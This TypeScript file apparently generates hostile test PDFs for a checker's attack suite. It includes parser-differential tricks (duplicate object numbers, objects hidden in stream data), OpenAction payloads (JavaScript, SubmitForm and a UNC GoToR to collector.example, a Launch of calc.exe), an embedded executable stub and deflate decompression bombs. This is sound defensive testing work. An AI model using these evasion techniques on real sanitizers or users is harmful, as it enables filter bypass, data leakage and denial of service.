/**
 * Hand-written PDFs for npm run attack: a one-page PDF with text, and variants that hide an
 * action or a decompression bomb from a checker that reads them the way pdf-lib does. The writer
 * puts objects in the order given and points the cross-reference table at the FIRST object of each
 * number, as readers do — so a duplicate number shows pdf-lib the later one, readers the earlier.
 */
import zlib from 'node:zlib'

/** `hides`: an object written inside this one's stream data, which the cross-reference table points into. */
type PdfObject = { id: number; body: string | Buffer; hides?: { id: number; body: string } }

const PAGE_TEXT = (text: string) => `BT /F1 18 Tf 72 700 Td (${text}) Tj ET`

function stream(dictionary: string, data: Buffer | string): Buffer {
  const bytes = Buffer.isBuffer(data) ? data : Buffer.from(data, 'latin1')
  return Buffer.concat([Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`, 'latin1'), bytes, Buffer.from('\nendstream', 'latin1')])
}

export function writePdf(objects: PdfObject[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')]
  let offset = parts[0]!.length
  const first = new Map<number, number>()
  for (const { id, body, hides } of objects) {
    if (!first.has(id)) first.set(id, offset)
    const hidden = hides ? `${hides.id} 0 obj\n${hides.body}\nendobj\n` : ''
    const content = hides ? stream('', `% data\n${hidden}`) : Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1')
    const bytes = Buffer.concat([Buffer.from(`${id} 0 obj\n`, 'latin1'), content, Buffer.from('\nendobj\n', 'latin1')])
    if (hides) first.set(hides.id, offset + bytes.indexOf(hidden, 0, 'latin1'))
    parts.push(bytes)
    offset += bytes.length
  }
  const size = Math.max(...first.keys()) + 1
  const rows = ['0000000000 65535 f \n']
  for (let id = 1; id < size; id++) rows.push(first.has(id) ? `${String(first.get(id)).padStart(10, '0')} 00000 n \n` : '0000000000 65535 f \n')
  parts.push(Buffer.from(`xref\n0 ${size}\n${rows.join('')}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'))
  return Buffer.concat(parts)
}

/** Objects 1-5 of a one-page PDF whose page says `text`; `catalog` and `page` add entries. */
function onePage(text: string, extra: { catalog?: string; page?: string; resources?: string } = {}): PdfObject[] {
  return [
    { id: 1, body: `<< /Type /Catalog /Pages 2 0 R ${extra.catalog ?? ''} >>` },
    { id: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { id: 3, body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${extra.resources ?? ''} >> ${extra.page ?? ''} >>` },
    { id: 4, body: stream('', PAGE_TEXT(text)) },
    { id: 5, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
  ]
}

export const plainPdf = (text: string) => writePdf(onePage(text))

/** Hostile PDFs of row 2, each meant to be refused; the first is the control that must be accepted. */
export function hostilePdfs(): [string, Buffer][] {
  return [
    ['plain PDF (control)', plainPdf('Notice of the examination committee')],
    [
      'duplicate object number, JavaScript first',
      writePdf([...onePage('Duplicate', { catalog: '/OpenAction 6 0 R' }), { id: 6, body: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' }, { id: 6, body: '<< /S /GoTo /D [3 0 R /Fit] >>' }]),
    ],
    [
      'JavaScript object inside another stream\'s data',
      writePdf([...onePage('Hidden', { catalog: '/OpenAction 6 0 R' }), { id: 7, body: '', hides: { id: 6, body: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' } }]),
    ],
    ['SubmitForm on open', writePdf(onePage('Submit', { catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collector.example/form) >> >>' }))],
    ['GoToR to a UNC path', writePdf(onePage('Remote', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\collector.example\\\\share\\\\a.pdf) /D [0 /Fit] >>' }))],
    ['Rendition action', writePdf(onePage('Rendition', { catalog: '/OpenAction << /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>' }))],
    ['Launch with an indirect /S', writePdf([...onePage('Launch', { catalog: '/OpenAction 6 0 R' }), { id: 6, body: '<< /S 7 0 R /F (calc.exe) >>' }, { id: 7, body: '/Launch' }])],
    [
      'FileAttachment whose file spec has no /Type',
      writePdf([...onePage('Attachment', { page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS << /F (run.exe) /EF << /F 6 0 R >> >> >>]' }), { id: 6, body: stream('', 'MZ not a real program') }]),
    ],
    ['XFA form with a <script>', writePdf([...onePage('XFA', { catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' }), { id: 6, body: stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>') }])],
  ]
}

/** `bytes` zero bytes deflated, made in 1 MB steps so that the zeros never sit in memory at once. */
export async function deflatedZeros(bytes: number): Promise<Buffer> {
  const deflate = zlib.createDeflate({ level: 9 })
  const chunks: Buffer[] = []
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk))
  const done = new Promise((resolve) => deflate.on('end', resolve))
  const zeros = Buffer.alloc(1 << 20)
  for (let written = 0; written < bytes; written += zeros.length) {
    if (!deflate.write(zeros)) await new Promise((resolve) => deflate.once('drain', resolve))
  }
  deflate.end()
  await done
  return Buffer.concat(chunks)
}

/** Decompression bombs of row 3: `deflated` (deflatedZeros) as an image and as the page's content, plain and behind a filter chain. */
export function bombPdfs(deflated: Buffer, decodedBytes: number): [string, Buffer][] {
  const width = 16_384
  const image = `/Type /XObject /Subtype /Image /Width ${width} /Height ${decodedBytes / width} /ColorSpace /DeviceGray /BitsPerComponent 8`
  const withImage = (dictionary: string, data: Buffer) => writePdf([...onePage('Bomb', { resources: '/XObject << /Im1 6 0 R >>' }), { id: 6, body: stream(dictionary, data) }])
  const asContent = (dictionary: string, data: Buffer) => {
    const [catalog, pages, page, , font] = onePage('Bomb')
    return writePdf([catalog!, pages!, { ...page!, body: String(page!.body).replace('/Contents 4 0 R', '/Contents [4 0 R 6 0 R]') }, { id: 4, body: stream('', PAGE_TEXT('Bomb')) }, font!, { id: 6, body: stream(dictionary, data) }])
  }
  const hex = Buffer.from(deflated.toString('hex') + '>', 'latin1')
  return [
    ['image, /FlateDecode', withImage(`${image} /Filter /FlateDecode`, deflated)],
    ['image, [/ASCIIHexDecode /FlateDecode]', withImage(`${image} /Filter [/ASCIIHexDecode /FlateDecode]`, hex)],
    ['page content, /FlateDecode', asContent('/Filter /FlateDecode', deflated)],
    ['page content, [/ASCIIHexDecode /FlateDecode]', asContent('/Filter [/ASCIIHexDecode /FlateDecode]', hex)],
  ]
}
